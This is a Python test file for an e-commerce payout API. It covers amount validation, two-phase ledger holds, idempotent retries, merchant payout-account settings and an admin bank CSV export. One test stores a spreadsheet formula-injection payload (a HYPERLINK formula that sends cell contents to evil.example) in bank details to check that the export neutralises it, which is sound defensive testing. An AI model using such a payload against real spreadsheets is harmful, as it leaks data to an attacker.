"""Payouts over the API: what may be asked for, two-phase in the ledger (held, then posted or voided), each mark
once, idempotent retries, the payout account, and the bank's CSV."""

from __future__ import annotations

import csv
import io

from tests.commerce.helpers import ledger_ok
from tests.payouts.helpers import ask, balance, payouts_of, sell
from tests.web.helpers import assert_problem
from vetrina.accounts.models import Role
from vetrina.payments import ledger
from vetrina.payments.models import AccountKind, LedgerAccount, Payout
from vetrina.payouts import service


def _ledger_of(ctx, payout_id: int) -> list[tuple[str, str, str, int]]:
    """(phase, debit kind, credit kind, amount) of the payout's transfers, in order."""
    with ctx.db.session() as session:
        transfers = sorted(ledger.transfers_for(session, f"payout:{payout_id}"), key=lambda t: t.id)
        kind = lambda account_id: session.get(LedgerAccount, account_id).kind  # noqa: E731
        return [(t.phase, kind(t.debit_account_id), kind(t.credit_account_id), t.amount) for t in transfers]


def _mark(client, admin, payout_id: int, outcome: str, **body):
    return client.post(f"/api/v1/admin/payouts/{payout_id}/{outcome}", headers=admin.auth, json=body)


def test_payouts_beyond_the_rules_are_refused_and_change_nothing(client, make_account):
    merchant, rival, buyer, admin = (make_account(r) for r in (Role.merchant, Role.merchant, Role.viewer, Role.admin))
    sell(client, make_account, merchant, price=10_000)  # 9,500 released; the minimum payout is 10.00
    before = balance(client, merchant)
    transfers_before = ledger_ok(client, admin)["transfers"]

    assert assert_problem(ask(client, merchant, 999), 422, "invalid-input")["field"] == "amount"
    assert assert_problem(ask(client, merchant, 0), 422, "invalid-input")["field"] == "amount"
    assert assert_problem(ask(client, merchant, -5_000), 422, "invalid-input")["field"] == "amount"
    over = assert_problem(ask(client, merchant, 9_501), 422, "invalid-input")
    assert over["field"] == "amount" and over["withdrawable"] == {"amount": 9_500, "currency": "EUR"}
    elsewhere = assert_problem(ask(client, merchant, 2_000, currency="USD"), 422, "invalid-input")
    assert elsewhere["field"] == "amount.currency"
    unknown = assert_problem(ask(client, merchant, 2_000, currency="XYZ"), 422, "invalid-input")
    assert [e["field"] for e in unknown["errors"]] == ["amount.currency"]
    as_text = client.post(
        "/api/v1/payouts", headers=merchant.auth, json={"amount": {"amount": "20.00", "currency": "EUR"}}
    )
    assert as_text.status_code == 422
    assert_problem(ask(client, buyer, 2_000), 403, "forbidden")
    assert_problem(ask(client, admin, 2_000), 403, "forbidden")
    assert_problem(ask(client, rival, 2_000), 422, "invalid-input")  # the rival sold nothing
    assert client.post("/api/v1/payouts", json={"amount": {"amount": 2_000, "currency": "EUR"}}).status_code == 401

    assert balance(client, merchant) == before
    assert payouts_of(client, merchant)["total"] == 0 and payouts_of(client, admin)["total"] == 0
    assert ledger_ok(client, admin)["transfers"] == transfers_before

    mine = ask(client, merchant, 2_000).json()
    assert_problem(client.get(f"/api/v1/payouts/{mine['id']}", headers=rival.auth), 404, "not-found")
    assert_problem(client.get(f"/api/v1/payouts/{mine['id']}", headers=buyer.auth), 404, "not-found")
    assert client.get(f"/api/v1/payouts/{mine['id']}", headers=admin.auth).json() == mine
    assert_problem(_mark(client, rival, mine["id"], "paid", reference="mine now"), 403, "forbidden")
    assert_problem(_mark(client, merchant, mine["id"], "paid", reference="self-paid"), 403, "forbidden")
    assert_problem(_mark(client, admin, 2**31 - 1, "paid", reference="BANK-1"), 404, "not-found")
    assert_problem(_mark(client, admin, mine["id"], "paid", reference=""), 422, "invalid-input")
    assert_problem(client.get("/api/v1/payouts", headers=buyer.auth), 403, "forbidden")
    assert payouts_of(client, rival)["total"] == 0
    assert client.get(f"/api/v1/payouts/{mine['id']}", headers=merchant.auth).json()["state"] == "requested"
    ledger_ok(client, admin)


def test_a_paid_payout_leaves_the_ledger_and_a_failed_one_comes_back(client, ctx, make_account):
    merchant, admin = make_account(Role.merchant), make_account(Role.admin)
    sell(client, make_account, merchant, price=10_000)

    asked = ask(client, merchant, 5_000)
    assert asked.status_code == 201, asked.text
    payout = asked.json()
    assert payout["amount"] == {"amount": 5_000, "currency": "EUR"}
    assert (payout["state"], payout["method"], payout["reference"]) == ("requested", "manual", None)
    assert balance(client, merchant) == {"available": 4_500, "held": 0, "withdrawable": 4_500}
    assert _ledger_of(ctx, payout["id"]) == [("pending", "merchant_payable", "payouts", 5_000)]

    paid = _mark(client, admin, payout["id"], "paid", reference="BANK-2026-0001")
    assert paid.status_code == 200, paid.text
    assert paid.json()["state"] == "paid" and paid.json()["reference"] == "BANK-2026-0001"
    assert paid.json()["settled_at"]
    assert [t[0] for t in _ledger_of(ctx, payout["id"])] == ["pending", "post_pending"]
    assert balance(client, merchant) == {"available": 4_500, "held": 0, "withdrawable": 4_500}
    again = assert_problem(_mark(client, admin, payout["id"], "paid", reference="BANK-2026-0002"), 409, "conflict")
    assert again["state"] == "paid"
    assert_problem(_mark(client, admin, payout["id"], "failed", reason="bounced"), 409, "conflict")
    assert client.get(f"/api/v1/payouts/{payout['id']}", headers=merchant.auth).json()["reference"] == (
        "BANK-2026-0001"
    )

    second = ask(client, merchant, 2_000).json()
    assert balance(client, merchant)["available"] == 2_500
    failed = _mark(client, admin, second["id"], "failed", reason="The IBAN was closed.")
    assert failed.status_code == 200 and failed.json()["state"] == "failed"
    assert failed.json()["failure"] == "The IBAN was closed."
    assert balance(client, merchant) == {"available": 4_500, "held": 0, "withdrawable": 4_500}  # the money is back
    assert [t[0] for t in _ledger_of(ctx, second["id"])] == ["pending", "void_pending"]
    assert_problem(_mark(client, admin, second["id"], "failed", reason="twice"), 409, "conflict")
    assert_problem(_mark(client, admin, second["id"], "paid", reference="late"), 409, "conflict")

    with ctx.db.session() as session:
        outside = ledger.find_account(session, AccountKind.payouts, 0, "EUR")
        assert outside is not None
    listed = payouts_of(client, merchant)
    assert [(p["id"], p["state"]) for p in listed["items"]] == [(second["id"], "failed"), (payout["id"], "paid")]
    ledger_ok(client, admin)


def test_a_retry_with_the_same_key_gets_the_first_payout(client, make_account):
    merchant, admin = make_account(Role.merchant), make_account(Role.admin)
    sell(client, make_account, merchant, price=10_000)
    first = ask(client, merchant, 3_000, key="payout-april")
    retry = ask(client, merchant, 3_000, key="payout-april")
    assert first.status_code == retry.status_code == 201
    assert retry.json() == first.json()
    assert balance(client, merchant)["available"] == 6_500
    assert_problem(ask(client, merchant, 4_000, key="payout-april"), 422, "idempotency-key-reused")
    assert_problem(ask(client, merchant, 4_000, key="bad key with spaces"), 422, "invalid-input")
    assert payouts_of(client, merchant)["total"] == 1
    other = make_account(Role.merchant)  # keys are per merchant
    sell(client, make_account, other, price=10_000)
    assert ask(client, other, 3_000, key="payout-april").json()["id"] != first.json()["id"]
    ledger_ok(client, admin)


def test_merchants_see_their_own_payouts_and_an_admin_everyones_by_state(client, make_account):
    one, two, admin = make_account(Role.merchant), make_account(Role.merchant), make_account(Role.admin)
    for merchant in (one, two):
        sell(client, make_account, merchant, price=10_000)
    a, b = ask(client, one, 1_000).json(), ask(client, one, 1_500).json()
    c = ask(client, two, 2_000).json()
    _mark(client, admin, b["id"], "paid", reference="BANK-7")
    assert [p["id"] for p in payouts_of(client, one)["items"]] == [b["id"], a["id"]]
    assert [p["id"] for p in payouts_of(client, two)["items"]] == [c["id"]]
    everyone = payouts_of(client, admin)
    assert everyone["total"] == 3 and {p["id"] for p in everyone["items"]} == {a["id"], b["id"], c["id"]}
    assert [p["id"] for p in payouts_of(client, admin, state="requested")["items"]] == [c["id"], a["id"]]
    assert [p["id"] for p in payouts_of(client, one, state="paid")["items"]] == [b["id"]]
    paged = payouts_of(client, admin, page=2, per_page=2)
    assert (paged["total"], paged["page"], paged["per_page"], len(paged["items"])) == (3, 2, 2, 1)
    assert client.get("/api/v1/payouts?state=lost", headers=admin.auth).status_code == 422


def test_the_payout_account_says_where_money_goes(client, make_account):
    merchant, buyer = make_account(Role.merchant), make_account(Role.viewer)
    url = "/api/v1/payouts/account"
    empty = client.get(url, headers=merchant.auth).json()
    assert empty == {
        "alipay_identity": None,
        "alipay_name": None,
        "stripe_account": None,
        "bank_details": "",
        "updated_at": None,
    }
    bad = assert_problem(
        client.put(url, headers=merchant.auth, json={"stripe_account": "me@bank"}), 422, "invalid-input"
    )
    assert bad["field"] == "stripe_account"
    assert client.put(url, headers=merchant.auth, json={"iban": "x"}).status_code == 422
    saved = client.put(
        url,
        headers=merchant.auth,
        json={"bank_details": "A. Merchant, DE89370400440532013000", "stripe_account": "acct_1Ab2"},
    )
    assert saved.status_code == 200, saved.text
    changed = client.put(
        url, headers=merchant.auth, json={"alipay_identity": "shop@example.com", "stripe_account": None}
    )
    assert changed.json()["bank_details"] == "A. Merchant, DE89370400440532013000"  # not sent: kept
    assert changed.json()["alipay_identity"] == "shop@example.com" and changed.json()["stripe_account"] is None
    assert client.get(url, headers=merchant.auth).json() == changed.json()
    assert_problem(client.put(url, headers=buyer.auth, json={"bank_details": "x"}), 403, "forbidden")
    assert_problem(client.get(url, headers=buyer.auth), 403, "forbidden")


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


def test_the_bank_csv_lists_bank_payouts_and_defuses_formulas(client, make_account):
    merchant, plain, admin = make_account(Role.merchant), make_account(Role.merchant), make_account(Role.admin)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    client.put("/api/v1/payouts/account", headers=merchant.auth, json={"bank_details": hostile})
    client.put("/api/v1/payouts/account", headers=plain.auth, json={"bank_details": "+49 30 1234, @home; -x"})
    for account in (merchant, plain):
        sell(client, make_account, account, price=10_000)
    first = ask(client, merchant, 1_250).json()
    second = ask(client, plain, 9_500).json()
    third = make_account(Role.merchant)  # no payout account: a bank payout without details still lists
    sell(client, make_account, third, price=2_000)
    last = ask(client, third, 1_900).json()

    # Whoever changes the bank details after a payout was asked for does not redirect it.
    client.put("/api/v1/payouts/account", headers=plain.auth, json={"bank_details": "Mallory, GB00EVIL"})

    rows = _csv_rows(client.get("/api/v1/admin/payouts.csv", headers=admin.auth))
    assert rows[0] == ["id", "merchant_email", "amount", "currency", "bank_details", "created_at", "state"]
    by_id = {row[0]: row for row in rows[1:]}
    assert list(by_id) == [str(first["id"]), str(second["id"]), str(last["id"])]
    assert by_id[str(first["id"])][1:5] == [merchant.user.email, "12.50", "EUR", "'" + hostile]
    assert by_id[str(second["id"])][2:5] == ["95.00", "EUR", "'+49 30 1234, @home; -x"]
    assert by_id[str(last["id"])][4] == "" and by_id[str(last["id"])][6] == "requested"
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    _mark(client, admin, first["id"], "paid", reference="=1+1")
    still = _csv_rows(client.get("/api/v1/admin/payouts.csv", headers=admin.auth))
    assert [row[0] for row in still[1:]] == [str(second["id"]), str(last["id"])]
    done = _csv_rows(client.get("/api/v1/admin/payouts.csv?state=paid", headers=admin.auth))
    assert [row[0] for row in done[1:]] == [str(first["id"])] and done[1][6] == "paid"
    assert_problem(client.get("/api/v1/admin/payouts.csv", headers=merchant.auth), 403, "forbidden")


def test_a_bank_payout_is_never_sent_by_the_job(client, ctx, make_account):
    """The provider job and its resend leave a payout made by hand to the admin."""
    merchant = make_account(Role.merchant)
    sell(client, make_account, merchant, price=10_000)
    payout = ask(client, merchant, 2_000).json()
    service.send(ctx, payout["id"])
    service.resend_due(ctx)
    with ctx.db.session() as session:
        row = session.get(Payout, payout["id"])
        assert (row.state, row.provider_reference) == ("requested", None)
